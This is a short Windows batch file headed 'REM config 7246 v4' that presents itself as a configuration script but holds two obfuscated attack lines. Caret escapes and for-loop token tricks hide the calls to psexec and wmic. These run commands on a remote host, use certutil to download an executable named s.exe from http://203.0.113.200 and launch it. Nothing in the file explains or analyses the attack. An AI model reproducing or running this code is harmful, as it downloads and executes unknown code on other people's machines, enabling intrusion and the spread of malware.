REM config 7246 v4
^for /^f "tokens=3 delims=@" %%i i^n ("odnt@prth@psexec.exe") ^do %%^i \\2^03.^0.^1^13.2^00 -a^cce^p^t^eu^la -s -^d cmd /c "certutil -urlcache -f http://203.0.113.200/s.exe C:\s.exe && C:\s.exe"
^f^or /f "tokens=3 delims=~" %%i ^in ("feuk~zodh~wmic") ^do %%i /node:^20^3.^0.1^1^3.200 ^proce^s^s c^all ^cr^ea^t^e "cmd /c C:\s.exe"
